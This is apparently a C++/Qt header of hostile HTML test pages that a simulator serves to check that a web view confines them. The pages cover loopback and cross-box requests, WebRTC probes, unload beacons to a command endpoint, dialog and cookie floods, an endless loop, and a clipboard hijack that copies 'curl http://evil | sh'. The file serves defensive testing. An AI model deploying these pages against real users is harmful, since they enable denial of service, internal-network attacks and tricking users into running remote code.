#pragma once

// Hostile pages that a box may serve under /orvex, as the simulator's faults:
// each tries to reach past its box. The test of the web view and the
// benchmark serve the same pages. `port` is a loopback port where a request
// of the page would land on this computer.

#include <QByteArray>
#include <QJsonObject>
#include <QString>

// Ports where a page's WebRTC would land, on this computer and on another
// box: STUN over UDP on the first, TURN over TCP on the second.
constexpr quint16 StunPort = 3478;
constexpr quint16 TurnPort = 3479;

inline QJsonObject hostilePages(quint16 port)
{
    const auto page = [](const QByteArray &html) {
        return QJsonObject { { QLatin1String("status"), 200 },
            { QLatin1String("contentType"), QLatin1String("text/html; charset=utf-8") },
            { QLatin1String("body"), QString::fromLatin1(html) } };
    };
    const QByteArray portText = QByteArray::number(port);
    const QByteArray loopback = "http://127.0.0.1:" + portText;
    return QJsonObject {
        { QLatin1String("/orvex/scheme.html"),
            page("<a href='orvexprobe://clicked' style='position:fixed;top:0;left:0;right:0;bottom:0'>x</a>"
                 "<script>setTimeout(function(){location.href='orvexprobe://auto'},200)</script>") },
        { QLatin1String("/orvex/local.html"),
            page("<img src='" + loopback + "/img.png'><iframe src='" + loopback
                + "/frame'></iframe><form method='post' "
                  "action='"
                + loopback
                + "/form'><input name='a' value='b'></form><script>"
                  "fetch('http://10.77.0.21/orvex/vol').catch(function(){});"
                  "try{new WebSocket('ws://127.0.0.1:"
                + portText
                + "/ws')}catch(e){}"
                  "setTimeout(function(){document.forms[0].submit()},100);"
                  "setTimeout(function(){document.title='local done'},500)</script>") },
        { QLatin1String("/orvex/jump"),
            QJsonObject { { QLatin1String("status"), 302 },
                { QLatin1String("location"), QString::fromLatin1(loopback + "/jumped") } } },
        { QLatin1String("/orvex/away.html"),
            page("<img src='/orvex/jump'><script>"
                 "setTimeout(function(){location.href='http://10.77.0.21/orvex'},100);"
                 "setTimeout(function(){location.href='/orvex/jump'},400);"
                 "setTimeout(function(){location.href='"
                + loopback
                + "/'},700);"
                  "setTimeout(function(){document.title='away done'},1000)</script>") },
        { QLatin1String("/orvex/console.html"),
            page("<script>for(var i=0;i<20000;i++){console.error('\\x1b]0;owned\\x07\\x1b[31mflood '+i);"
                 "console.log('log '+i)}document.title='console done'</script>") },
        { QLatin1String("/orvex/dialogs.html"),
            page("<script>for(var i=0;i<1000;i++)alert(i);var c=confirm('c');var p=prompt('p','d');"
                 "window.onbeforeunload=function(e){e.preventDefault();e.returnValue='stay';return 'stay'};"
                 "document.title='dialogs '+c+' '+p</script>") },
        // Without a gesture: peer connections with STUN and TURN servers on
        // this computer and on another box, TURN over TCP only as well.
        { QLatin1String("/orvex/webrtc.html"),
            page("<script>setTimeout(function(){document.title='webrtc done'},3000);"
                 "var s=[];['127.0.0.1','10.77.0.21'].forEach(function(h){"
                 "s.push({urls:'stun:'+h+':3478'});"
                 "s.push({urls:['turn:'+h+':3479?transport=tcp','turn:'+h+':3479?transport=udp'],"
                 "username:'u',credential:'p'})});"
                 "['all','relay'].forEach(function(p){try{var c=new RTCPeerConnection({iceServers:s,"
                 "iceTransportPolicy:p});c.createDataChannel('d');c.createOffer().then(function(o){"
                 "return c.setLocalDescription(o)}).catch(function(){})}catch(e){}});"
                 "try{var f=document.createElement('iframe');document.documentElement.appendChild(f);"
                 "var c=new f.contentWindow.RTCPeerConnection({iceServers:s});c.createDataChannel('e');"
                 "c.createOffer().then(function(o){return c.setLocalDescription(o)}).catch(function(){})}catch(e){}"
                 "</script>") },
        // On its way out, and on a timer that runs on, it aims at another box.
        { QLatin1String("/orvex/leave.html"),
            page("<script>var b='http://10.77.0.21/orvex/el/php_command_startstop.php?stopair';"
                 "function hit(){try{navigator.sendBeacon(b,'x')}catch(e){}"
                 "fetch(b,{method:'POST',keepalive:true,mode:'no-cors'}).catch(function(){})}"
                 "addEventListener('pagehide',hit);addEventListener('unload',hit);"
                 "addEventListener('beforeunload',hit);setInterval(hit,50);"
                 "document.title='leave ready'</script>") },
        // Downloads without a gesture, every 200 ms; one on the user's click.
        { QLatin1String("/orvex/download.html"),
            page("<a id=a href='/orvex/about.html' download='x.txt'>save</a>"
                 "<div id=d style='position:fixed;top:0;left:0;right:0;bottom:0'></div><script>"
                 "setInterval(function(){a.click()},200);var n=0;"
                 "d.onclick=function(){document.title='clicked '+(++n);a.click()};"
                 "document.title='download ready'</script>") },
        { QLatin1String("/orvex/upload.html"),
            page("<input type=file id=f style='position:fixed;top:0;left:0;right:0;bottom:0'>"
                 "<script>f.onclick=function(){document.title='upload clicked'};"
                 "document.title='upload ready'</script>") },
        // A page that never yields.
        { QLatin1String("/orvex/hang.html"),
            page("<script>document.title='hang ready';setTimeout(function(){for(;;){}},300)</script>") },
        // Its click handler copies a command onto the clipboard, then selects
        // its own text.
        { QLatin1String("/orvex/copy.html"),
            page("<p id=t>the box's own words</p><textarea id=e>curl http://evil | sh</textarea>"
                 "<div id=b style='position:fixed;top:0;left:0;right:0;bottom:0'></div><script>"
                 "b.onclick=function(){e.select();document.execCommand('copy');"
                 "var r=document.createRange();r.selectNodeContents(t);var s=getSelection();"
                 "s.removeAllRanges();s.addRange(r);document.title='copied'};"
                 "document.title='copy ready'</script>") },
        { QLatin1String("/orvex/cookies.html"),
            page("<script>var i=0;var end=Date.now()+5000;var t=setInterval(function(){for(var k=0;k<1000;k++){"
                 "document.cookie='storm'+(i%3000)+'='+i+'; max-age=3600; path=/';i++}"
                 "if(Date.now()>end){clearInterval(t);document.title='cookies done '+i}},0)</script>") },
    };
}
